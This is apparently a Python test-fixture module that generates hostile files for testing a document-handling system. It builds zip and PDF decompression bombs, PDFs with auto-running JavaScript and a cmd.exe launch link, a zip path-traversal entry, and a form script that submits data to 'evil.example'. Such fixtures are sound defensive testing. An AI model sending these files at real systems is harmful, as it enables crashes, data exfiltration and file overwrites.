"""Hostile and unlucky files, made by code 恶意与不良文件."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image


def picture(kind: str = "PNG", size: tuple[int, int] = (400, 300)) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("L").save(buffer, kind)
    return buffer.getvalue()


def flat_png(width: int, height: int) -> bytes:
    """A PNG that is tiny on disk and huge in memory, written without ever holding its pixels."""
    packer = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def saved(document: pikepdf.Pdf, **options: object) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def pdf(pages: int = 1) -> pikepdf.Pdf:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    return document


def pdf_with_script() -> bytes:
    document = pdf()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")
    document.Root.OpenAction = document.make_indirect(action)
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(action)]))
    )
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action)
    return saved(document)


def pdf_with_attachment() -> bytes:
    document = pdf()
    document.attachments["virus.exe"] = b"MZ" + b"\x90" * 4000
    return saved(document)


def pdf_with_launch_link() -> bytes:
    document = pdf()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])
    return saved(document)


def pdf_with_password() -> bytes:
    return saved(pdf(), encryption=pikepdf.Encryption(owner="o", user="u"))


def pdf_with_stream_bomb(megabytes: int = 300) -> bytes:
    document = pdf()
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(megabytes)) + packer.flush()
    stream = pikepdf.Stream(document, b"")
    stream.write(packed, filter=pikepdf.Name.FlateDecode)
    document.pages[0].obj.Contents = document.make_indirect(stream)
    return saved(document, compress_streams=False)


def pdf_with_pixel_flood() -> bytes:
    document = pdf()
    flood = pikepdf.Stream(document, zlib.compress(b"\x00" * 1000))
    flood.Type, flood.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    flood.Width, flood.Height, flood.BitsPerComponent = 30000, 30000, 8
    flood.ColorSpace, flood.Filter = pikepdf.Name.DeviceGray, pikepdf.Name.FlateDecode
    document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=document.make_indirect(flood)))
    return saved(document)


def zip_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../etc/passwd", "x")
    return buffer.getvalue()


def docx_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A zip of zips: a few kilobytes that unpack to gigabytes."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.bin", bytes(16 << 20))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(200):
            archive.writestr(f"{number}.zip", inner.getvalue())
    return outer.getvalue()


def pdf_with_circular_pages() -> bytes:
    """A page tree that contains itself."""
    document = pdf(2)
    document.Root.Pages.Kids.append(document.Root.Pages)
    document.Root.Pages.Count = 1_000_000
    return saved(document)


def pdf_with_deep_nesting(depth: int = 20_000) -> bytes:
    """Arrays in arrays, to break a reader that calls itself."""
    content = saved(pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return content.replace(b"/Type /Catalog", b"/Type /Catalog /Odd " + b"[" * depth + b"]" * depth, 1)


def pdf_with_filter_chain(rounds: int = 4) -> bytes:
    """A page whose content is packed several times over: each unpacking is a thousand times larger."""
    document = pdf()
    packed = bytes(64 << 20)
    for _ in range(rounds):
        packed = zlib.compress(packed, 9)
    stream = pikepdf.Stream(document, b"")
    stream.write(packed, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * rounds))
    document.pages[0].obj.Contents = document.make_indirect(stream)
    return saved(document, compress_streams=False)


def pdf_with_form_script() -> bytes:
    """An XFA form and a field that runs a script whenever it is touched."""
    document = pdf()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="this.submitForm('http://evil.example/')")
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="name", V="x", Rect=[50, 50, 200, 80],
        AA=pikepdf.Dictionary(K=action, F=action, V=action),
    )  # fmt: skip
    field = document.make_indirect(field)
    document.pages[0].obj.Annots = pikepdf.Array([field])
    xfa = document.make_indirect(pikepdf.Stream(document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), XFA=xfa)
    return saved(document)


def pdf_with_media() -> bytes:
    """A film on a page, and a link to a file on another machine."""
    document = pdf()
    film = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10],
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
    )  # fmt: skip
    away = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=r"\\server\share\x.pdf", D=pikepdf.Array([0, pikepdf.Name.Fit])),
    )  # fmt: skip
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(film), document.make_indirect(away)])
    return saved(document)


def tiff_of_many_pages(pages: int = 1500) -> bytes:
    buffer = io.BytesIO()
    one = Image.new("1", (8, 8), 1)
    one.save(buffer, "TIFF", save_all=True, append_images=[one] * (pages - 1))
    return buffer.getvalue()
